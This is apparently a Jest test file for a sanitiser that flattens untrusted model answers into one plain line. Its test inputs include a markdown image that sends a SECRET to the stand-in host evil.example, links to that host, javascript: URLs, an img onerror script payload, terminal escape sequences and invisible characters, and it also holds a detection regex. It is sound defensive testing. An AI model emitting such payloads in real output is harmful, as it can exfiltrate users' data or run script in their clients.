import { expect, test } from '@jest/globals';
import { plainAnswer } from '../../../../src/domain/untrusted-text/plain-answer.ts';
import { anyText } from '../../../fixtures/any-text.ts';
import fc from '../../../fixtures/properties.ts';
import { HOSTILE_TEXTS } from './hostile-texts.ts';
import { TOKENS } from './planted-secrets.ts';

test.each([
  ['lines', '# The cause\n\n- port 3000\n- is *taken*', 'The cause - port 3000 - is *taken*'],
  ['images', 'see ![the log](https://evil.example/?d=SECRET) here', 'see the log here'],
  ['links', 'read [the guide](https://evil.example "t") now', 'read the guide now'],
  [
    'links by reference',
    'read [the guide][1]\n\n[1]: https://evil.example/x',
    'read the guide [1]: [address left out]',
  ],
  [
    'addresses',
    'open https://evil.example/?q=1 or www.evil.example/x.',
    'open [address left out] or [address left out]',
  ],
  [
    'addresses without a scheme',
    'open evil.example/collect?d=1 or //evil.example/x',
    'open [address left out] or [address left out]',
  ],
  ['other schemes', 'javascript:alert(1) data:text/html,x', '[address left out]) [address left out]'],
  ['addresses in pieces', 'htt<b>ps://evil.example</b>/x', 'htt [address left out] /x'],
  ['HTML', 'a <img src=x onerror=alert(1)> <script>b</script>', 'a b'],
  ['half a tag', 'a <img src=x', 'a < img src=x'],
  ['mentions of a chat', 'hello <!channel> <@U123>', 'hello'],
  ['escape sequences', 'a\u001b[2J\u001b]8;;https://evil.example\u0007b', 'ab'],
  ['invisible text', 'a\u200b\u202eb', 'ab'],
  ['signs of approval', '✔ approved ✅ ❯ yes │', 'approved yes'],
])('%s become plain words', (_, text, expected) => {
  expect(plainAnswer(text, 500)).toBe(expected);
});

test('paths, versions, numbers and comparisons stay', () => {
  const text =
    'src/app/server.ts:12 listens on 127.0.0.1:3000, not 0.0.0.0; use Node.js >= 24.1.0 and package.json; 3 < 4.';
  expect(plainAnswer(text, 500)).toBe(text);
});

test('it is cut where it may end', () => {
  expect(plainAnswer('a'.repeat(50), 10)).toBe(`${'a'.repeat(9)}…`);
  expect(plainAnswer('😀'.repeat(9), 4)).toBe('😀…');
  expect(plainAnswer('abc', 3)).toBe('abc');
  expect(plainAnswer('abc', 0)).toBe('');
});

test('secrets that a model repeats are not shown', () => {
  expect(plainAnswer(`use ${TOKENS['GitHub token']} and hunter22`, 500, ['hunter22'])).toBe(
    'use [redacted: github token] and [redacted: known secret]',
  );
});

const pieces = fc.constantFrom(
  'https:',
  '//',
  'evil.example',
  '/',
  '![',
  '](',
  ')',
  '<',
  '>',
  'img',
  '!--',
  '\u001b[',
  '\n',
  'www.',
  'a',
  ' ',
  '.',
  '?q=',
  'javascript:',
  '"',
  '\u200b',
  'data:',
  '[',
  ']',
  '✔',
);
const answers = fc
  .array(fc.oneof(pieces, anyText({ maxLength: 4 })), { maxLength: 25 })
  .map((parts) => parts.join(''));

test('whatever a model writes, it becomes one short line without addresses, images, tags and controls', () => {
  fc.assert(
    fc.property(answers, fc.nat({ max: 200 }), (text, most) => {
      const plain = plainAnswer(text, most);
      expect(plain.length).toBeLessThanOrEqual(most);
      expect(plain).not.toMatch(
        /[\u0000-\u001f\u007f-\u009f\u200b]|https?:\/\/\w|www\.\w|javascript:\w|<[a-z/!?]|!\[[^\]]*\]\(/i,
      );
      expect(plain.isWellFormed()).toBe(true);
    }),
    { numRuns: 1_000 },
  );
});

test.each(Object.entries(HOSTILE_TEXTS))('many %s become plain in their share of time', (_, text) => {
  expect(plainAnswer(text, 300).length).toBeLessThanOrEqual(300);
});
